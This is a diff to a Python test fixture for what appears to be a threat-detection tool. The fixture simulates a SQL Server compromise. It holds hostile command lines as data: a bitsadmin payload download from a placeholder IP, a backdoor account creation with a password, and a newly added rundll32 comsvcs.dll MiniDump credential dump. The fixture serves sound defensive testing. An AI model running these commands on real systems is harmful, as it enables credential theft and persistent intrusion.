@@ -14,14 +14,16 @@ MONDAY = datetime(2026, 3, 2, 9, tzinfo=UTC)
 HOSTS, DAYS = 40, 14
 SQL, SYSTEM, ALICE = "NT SERVICE\\MSSQLSERVER", "NT AUTHORITY\\SYSTEM", "FABRIKAM\\alice"
 SERVER = "C:\\Program Files\\Microsoft SQL Server\\MSSQL15.A\\MSSQL\\Binn\\sqlservr.exe"
+NET, RUNDLL32 = "C:\\Windows\\System32\\net.exe", "C:\\Windows\\System32\\rundll32.exe"
 BITSADMIN, CONHOST = "C:\\Windows\\System32\\bitsadmin.exe", "C:\\Windows\\System32\\conhost.exe"
 PASSWORD = "Winter2026!x"
 ATTACK = (
     "bitsadmin /transfer n http://198.51.100.7/Svn.exe C:\\Users\\Public\\Svn.exe",
     f"net user backdoor {PASSWORD} /add",
+    "rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\q7zk.dmp full",
 )
 ELSEWHERE = "bitsadmin /transfer job77 http://203.0.113.50/a/upd.exe C:\\Users\\Public\\upd.exe"
-INSTANCE = ("198.51.100.7", "Svn", "backdoor", "db3", PASSWORD)
+INSTANCE = ("198.51.100.7", "Svn", "backdoor", "db3", "q7zk", PASSWORD)
 """What belongs to the one incident and to no technique."""
 
 Start = dict[str, Any]
@@ -51,7 +53,8 @@ def attacks() -> list[Start]:
     sql, alice = ("contoso", SQL, SERVER), ("fabrikam", ALICE, "C:\\Windows\\explorer.exe")
     return [
         start("db3", DAYS - 1, (BITSADMIN, ATTACK[0]), sql),
-        start("db3", DAYS - 1, ("C:\\Windows\\System32\\net.exe", ATTACK[1]), sql),
+        start("db3", DAYS - 1, (NET, ATTACK[1]), sql),
+        start("db3", DAYS - 1, (RUNDLL32, ATTACK[2]), sql),
         start("db8", DAYS - 2, (BITSADMIN, ELSEWHERE), alice),
     ]
 
@@ -66,7 +69,8 @@ def telemetry(folder: Path) -> Path:
 def alert(**given: Any) -> dict[str, Any]:
     """The alert of the SQL Server, as a hunt writes it."""
     moment = (MONDAY + timedelta(days=DAYS - 1)).isoformat()
-    told = [("bitsadmin.exe", BITSADMIN, ATTACK[0]), ("net.exe", "C:\\Windows\\System32\\net.exe", ATTACK[1])]
+    told = [("bitsadmin.exe", BITSADMIN, ATTACK[0]), ("net.exe", NET, ATTACK[1]),
+            ("rundll32.exe", RUNDLL32, ATTACK[2])]  # fmt: skip
     executions = [
         {"time": moment, "image": image, "executable": f"\\windows\\system32\\{name}", "hosted_by": None,
          "command_line": line, "parent_image": SERVER, "role": "anomaly"}
@@ -93,6 +97,9 @@ LISTS = (
 )
 FETCHES = LISTS.replace("/list", "/transfer").replace("Lists transfers", "Fetches").replace("low", "high").replace(
     "000000000001", "000000000002"
+)  # fmt: skip
+DUMPS = LISTS.replace("bitsadmin", "rundll32").replace("/list", "minidump").replace("Lists transfers", "Dumps").replace(
+    "000000000001", "000000000003"
 )  # fmt: skip
 HASHES = "title: Knows a hash\nlogsource: {category: process_creation}\ndetection: {s: {Hashes: a}, condition: s}\n"
 NETWORK = "title: Connects\nlogsource: {category: network_connection}\ndetection: {s: {a: b}, condition: s}\n"
